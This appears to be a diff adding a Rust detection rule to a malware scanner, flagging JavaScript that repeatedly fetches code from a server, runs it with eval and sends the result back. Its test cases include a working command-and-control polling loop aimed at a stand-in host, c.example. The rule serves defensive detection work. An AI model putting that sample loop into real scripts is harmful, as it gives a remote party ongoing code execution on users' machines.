@@ -1,0 +1,58 @@
+//! `orders-run-and-answered`.
+
+use crate::facts::Atom;
+use crate::signals::near::Near;
+use crate::signals::{Evidence, Held, Signal, one};
+use crate::stream::Kind;
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "orders-run-and-answered",
+    description: "The script asks a server for code again and again, runs it and sends back what came out.",
+    severity: Severity::High,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::Eval, Atom::FunctionOfText, Atom::ValueRun])],
+    within: 0,
+    only_if: Some(answers),
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "setInterval(function(){fetch('https://c.example/next').then(r=>r.json()).then(j=>{var out=eval(j.code);fetch('https://c.example/out',{method:'POST',body:JSON.stringify({id:j.id,out:out})})})},500)",
+        ],
+        without: &[
+            "setInterval(function(){fetch('/status').then(r=>r.json()).then(j=>{fetch('/seen',{method:'POST',body:JSON.stringify({id:j.id})})})},500)",
+            "fetch('/page').then(r=>r.text()).then(t=>{var f=eval(t);f()})",
+        ],
+    },
+};
+
+/// Whether what running a text gives is kept and handed to something that sends or to a function of the script.
+fn answers(evidence: &Evidence<'_>, held: Held) -> bool {
+    let near = Near::new(evidence, held, 200);
+    let again = [Atom::Repeat, Atom::Delay, Atom::EndlessLoop];
+    let asked = [Atom::AnswerBody, Atom::MessageBody, Atom::AnswerHanded];
+    let sent = [Atom::Post, Atom::PostMethod, Atom::Socket, Atom::SentAbroad];
+    if !near.has_fact(&again) || !near.has_fact(&asked) || !near.has_fact(&sent) {
+        return false;
+    }
+    near.words(&["eval", "Function", "constructor", "AsyncFunction"]).any(|at| {
+        if !near.is(at + 1, b'(') && !near.is(at + 2, b'(') {
+            return false;
+        }
+        // `result = eval(…)`, `out = await new (…constructor)(…)(…)`
+        let from = at.saturating_sub(if near.word(at) == "constructor" { 22 } else { 4 });
+        let assigned = (from..at).rev().find(|at| near.is(*at, b'='));
+        let Some(name) = assigned.filter(|at| *at > 0).map(|at| near.word(at - 1)) else { return false };
+        if name.len() < 2 && near.kind(at) != Some(Kind::Name) || name.is_empty() {
+            return false;
+        }
+        near.among(at + 2..at + 90).places().any(|used| {
+            near.kind(used) == Some(Kind::Name)
+                && near.word(used) == name
+                && (used.saturating_sub(16)..used)
+                    .any(|at| SENDS.contains(&near.word(at)) && near.is(at + 1, b'('))
+        })
+    })
+}
+
+const SENDS: &[&str] = &["send", "fetch", "post", "emit", "sendBeacon", "stringify", "String", "btoa"];
